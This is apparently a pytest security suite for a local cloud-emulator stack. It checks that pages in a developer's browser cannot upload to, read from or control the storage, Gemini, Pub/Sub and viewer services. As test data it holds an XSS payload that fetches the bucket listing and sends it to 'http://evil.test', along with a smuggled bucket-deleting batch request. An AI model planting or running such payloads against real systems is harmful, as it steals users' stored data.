"""Every local service as a web page in the developer's browser meets it: on the wire, at each of its APIs."""

from __future__ import annotations

import contextlib
import http.client
import itertools
import json
import os
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
import requests

from infra.emulators.client import Control
from infra.local import resources, topology
from infra.local.process import Process, service_argv
from tests.browser_requests import EVIL, Sent, from_pages, from_programs
from tests.contract.viewer_rig import environment
from tests.services import START_TIMEOUT_S, control_url, running
from tests.waiting import WAIT_S

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping
    from email.message import Message

FAULT = json.dumps({"kind": "latency"}).encode()
PAYLOAD = b"<script>fetch('/storage/v1/b').then(r => r.text()).then(t => fetch('http://evil.test', {body: t}))</script>"
QUESTION = b'{"contents": [{"parts": [{"text": "What is this?"}]}]}'
REFUSALS = {403, 415}


@dataclass(frozen=True, slots=True)
class Answer:
    """What came back over the wire."""

    status: int
    headers: Message
    body: bytes


@dataclass(frozen=True, slots=True)
class Service:
    """One running service: its paths, each with a body that would do something there, and what it holds."""

    url: str
    paths: Mapping[str, bytes]
    state: Callable[[], Any]

    @property
    def port(self) -> int:
        """Where it listens."""
        return urlsplit(self.url).port or 0

    def ask(self, path: str, sent: Sent, body: bytes | None = None) -> Answer:
        """Send exactly these headers, and a body with every method that may have one."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=WAIT_S)
        data = b"" if sent.method in {"GET", "HEAD", "OPTIONS"} else self.paths.get(path, b"") if body is None else body
        with contextlib.closing(connection):
            connection.putrequest(sent.method, path, skip_host=True, skip_accept_encoding=True)
            for name, value in sent.headers.items():
                connection.putheader(name, value)
            connection.putheader("Content-Length", str(len(data)))
            connection.endheaders(data)
            answer = connection.getresponse()
            return Answer(answer.status, answer.headers, answer.read())


def form(*fields: bytes) -> bytes:
    """Return what a web form with these fields sends, by the boundary that all our requests name."""
    parts = [b'--xxxx\r\nContent-Disposition: form-data; name="f"\r\n\r\n%b\r\n' % each for each in fields]
    return b"".join(parts) + b"--xxxx--\r\n"


@pytest.fixture(scope="module")
def services() -> Iterator[dict[str, Service]]:
    """Every service of the stack that serves HTTP, but for the functions."""
    with contextlib.ExitStack() as stack:
        storage = stack.enter_context(
            running("storage", "--bucket", "uploads", "--bucket", "results", "--bucket", "work")
        )
        gemini = stack.enter_context(running("gemini", "--storage", storage))
        child = stack.enter_context(Process("pubsub", service_argv("pubsub", "--port", "0"), env=dict(os.environ)))
        pubsub = child.wait_ready(timeout_s=START_TIMEOUT_S).removeprefix("http://")
        resources.create_topics(pubsub)
        viewer = stack.enter_context(running("viewer", env=environment(storage, pubsub)))
        control = control_url(child)
        client = resources.storage_client(storage)

        def stored() -> Any:
            names = {bucket: [blob.name for blob in client.list_blobs(bucket)] for bucket in topology.BUCKETS}
            return [bucket.name for bucket in client.list_buckets()], names, Control(storage).faults()

        upload = "/upload/storage/v1/b/uploads/o"
        metadata = json.dumps({"name": "pwn.html", "contentType": "text/html"}).encode()
        batch = form(b"DELETE /storage/v1/b/uploads HTTP/1.1\r\n\r\n")
        batch = batch.replace(b"\r\n\r\n", b"\r\nContent-Type: application/http\r\n\r\n", 1)
        yield {
            "storage": Service(
                storage,
                {
                    f"{upload}?uploadType=multipart": form(metadata, PAYLOAD),
                    f"{upload}?uploadType=media&name=pwn.html": PAYLOAD,
                    "/storage/v1/b": b'{"name": "made-by-a-page"}',
                    "/storage/v1/b/uploads/o": b"",
                    "/batch/storage/v1": batch,
                    "/uploads/pwn.html": PAYLOAD,
                    "/_control/faults": FAULT,
                    "/%5Fcontrol/faults": FAULT,
                },
                stored,
            ),
            "gemini": Service(
                gemini,
                {
                    "/v1beta/models/gemini-3.8-flash:generateContent?key=k": QUESTION,
                    "/v1beta/files?key=k": b"",
                    "/_control/faults": FAULT,
                    "/prefix/_control/faults": FAULT,
                    "/_control/replies": b'{"subject": "*", "text": "forged"}',
                },
                lambda: [Control(gemini).call("GET", f"/_control/{name}") for name in ("calls", "replies", "faults")],
            ),
            "pubsub": Service(control, {"/_control/faults": FAULT, "/_control/stats": b""}, Control(control).faults),
            "viewer": Service(viewer, {"/api/uploads?name=pwn.png": PAYLOAD, "/api/events": b""}, stored),
        }


@pytest.mark.parametrize("name", ["storage", "gemini", "pubsub", "viewer"])
def test_no_page_does_anything_or_learns_anything(services: dict[str, Service], name: str) -> None:
    service = services[name]
    before = service.state()
    let_in, readable = [], []
    for path, sent in itertools.product(service.paths, from_pages(service.port)):
        answer = service.ask(path, sent)
        # A host that is none is refused by the server itself.
        if answer.status not in REFUSALS | {400}:
            let_in.append((path, str(sent), answer.status))
        readable += [header for header in answer.headers if header.lower().startswith("access-control-")]

    assert let_in == []
    assert readable == []
    assert service.state() == before


@pytest.mark.parametrize("name", ["storage", "gemini", "pubsub", "viewer"])
def test_programs_on_this_machine_are_served_under_every_name_that_it_has(
    services: dict[str, Service], name: str
) -> None:
    service = services[name]
    # Their own refusals (no such bucket, no such method) are the services' business, and say neither of these.
    refused = [
        (str(sent), answer.status)
        for sent in from_programs(service.port)
        if (answer := service.ask("/nothing-here", sent, b"")).status in REFUSALS
    ]

    assert refused == []


@pytest.mark.parametrize("name", ["storage", "gemini", "pubsub", "viewer"])
def test_every_answer_is_data_without_an_origin_or_scripts(services: dict[str, Service], name: str) -> None:
    service = services[name]
    sent = Sent("a program", "GET", {"Host": f"127.0.0.1:{service.port}"})
    for path in (*(each for each in service.paths if each != "/api/events"), "/<script>alert(1)</script>"):
        headers = service.ask(path, sent).headers

        assert headers.get_all("x-content-type-options") == ["nosniff"]
        assert headers.get_all("cross-origin-resource-policy") == ["same-origin"]
        [policy] = headers.get_all("content-security-policy") or [""]
        assert "frame-ancestors 'none'" in policy
        assert policy.endswith("; sandbox") or name == "viewer"


def test_a_stored_page_is_served_sandboxed_by_each_way_to_it(services: dict[str, Service]) -> None:
    storage = services["storage"]
    bucket = resources.storage_client(storage.url).bucket("results")
    bucket.blob("stored.html").upload_from_string(PAYLOAD, content_type="text/html")
    paths = (
        "/results/stored.html",
        "/storage/v1/b/results/o/stored.html?alt=media",
        "/download/storage/v1/b/results/o/stored.html?alt=media",
    )
    for path in paths:
        answer = storage.ask(path, Sent("a program", "GET", {"Host": "localhost"}))
        ranged = storage.ask(path, Sent("a program", "GET", {"Host": "localhost", "Range": "bytes=0-7"}))

        assert (answer.status, answer.body, ranged.status) == (200, PAYLOAD, 206)
        for each in (answer, ranged):
            assert each.headers["content-type"] == "text/html"
            assert each.headers["content-security-policy"].endswith("; sandbox")
            assert each.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("kind", ["multipart/form-data", "multipart/mixed", "application/json", "text/plain"])
def test_an_upload_of_two_parts_is_multipart_related_and_nothing_else(services: dict[str, Service], kind: str) -> None:
    storage = services["storage"]
    body = form(b'{"name": "two-parts.html"}', PAYLOAD)
    headers = {"Host": "localhost", "Content-Type": f"{kind}; boundary=xxxx"}

    answer = storage.ask("/upload/storage/v1/b/results/o?uploadType=multipart", Sent("curl", "POST", headers), body)

    assert answer.status == (415 if kind == "multipart/form-data" else 400)
    assert resources.storage_client(storage.url).bucket("results").get_blob("two-parts.html") is None


@pytest.mark.parametrize("kind", ["multipart/form-data", "multipart/related", "text/plain"])
def test_a_batch_is_multipart_mixed_and_nothing_else(services: dict[str, Service], kind: str) -> None:
    storage = services["storage"]
    headers = {"Host": "localhost", "Content-Type": f"{kind}; boundary=xxxx"}
    body = storage.paths["/batch/storage/v1"]

    answer = storage.ask("/batch/storage/v1", Sent("curl", "POST", headers), body)

    assert answer.status == (415 if kind == "multipart/form-data" else 400)
    assert resources.storage_client(storage.url).bucket("uploads").exists()


def test_a_page_that_the_developer_opens_gets_nothing(services: dict[str, Service]) -> None:
    """The drive-by of 2026-11-29 step by step: a form plants a page in a bucket, which then reads all of them.

    Source: drive_by_page.py of that day's field study, whose page a Chromium opened; what it sent is sent here.
    """
    storage = services["storage"]
    host = {"Host": f"127.0.0.1:{storage.port}"}
    metadata = json.dumps({"name": "pwn.html", "contentType": "text/html"}).encode()
    body = form(metadata, PAYLOAD).replace(b"\r\n\r\n<script", b"\r\nContent-Type: text/html\r\n\r\n<script")
    marks = {**host, "Origin": EVIL, "Referer": f"{EVIL}/", "Sec-Fetch-Site": "cross-site"}
    marks |= {
        "Sec-Fetch-Mode": "navigate",
        "Sec-Fetch-Dest": "iframe",
        "Content-Type": "multipart/form-data; boundary=xxxx",
    }
    upload = "/upload/storage/v1/b/uploads/o?uploadType=multipart"

    assert storage.ask(upload, Sent("the form", "POST", marks), body).status == 403
    # Even a browser that marks nothing plants nothing, and even what had been planted another way cannot read.
    bare = {**host, "Content-Type": marks["Content-Type"]}
    assert storage.ask(upload, Sent("the form", "POST", bare), body).status == 415
    bucket = resources.storage_client(storage.url).bucket("uploads")
    assert bucket.get_blob("pwn.html") is None
    bucket.blob("pwn.html").upload_from_string(PAYLOAD, content_type="text/html")
    link = {**host, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    assert storage.ask("/uploads/pwn.html", Sent("its link", "GET", link)).status == 403
    opened = storage.ask("/uploads/pwn.html", Sent("a browser without marks", "GET", host))
    assert "sandbox" in opened.headers["content-security-policy"]  # no scripts, and an origin of its own
    scripted = {**host, "Origin": "null", "Sec-Fetch-Site": "cross-site"}
    assert storage.ask("/storage/v1/b/uploads/o", Sent("its script", "GET", scripted)).status == 403
    bucket.blob("pwn.html").delete()


def test_whoever_binds_elsewhere_is_called_by_the_names_that_were_given() -> None:
    with running("storage", "--host", "0.0.0.0", "--called", "emulators", "--bucket", "uploads") as url:
        port = urlsplit(url).port or 0
        service = Service(url, {}, lambda: None)
        found = {
            name: service.ask("/storage/v1/b", Sent("a program", "GET", {"Host": f"{name}:{port}"})).status
            for name in ("127.0.0.1", "10.1.2.3", "emulators", "evil.test")
        }

        assert found == {"127.0.0.1": 200, "10.1.2.3": 200, "emulators": 200, "evil.test": 403}
        assert requests.get(f"{url}/storage/v1/b", timeout=WAIT_S).ok


def test_pubsub_serves_grpc_and_control_on_the_host_that_was_given() -> None:
    argv = service_argv("pubsub", "--port", "0", "--host", "localhost")
    with Process("pubsub", argv, env=dict(os.environ)) as child:
        url = child.wait_ready(timeout_s=START_TIMEOUT_S)
        resources.create_topics(url.removeprefix("http://"))

        assert Control(control_url(child)).call("GET", "/_control/stats")["topics"]
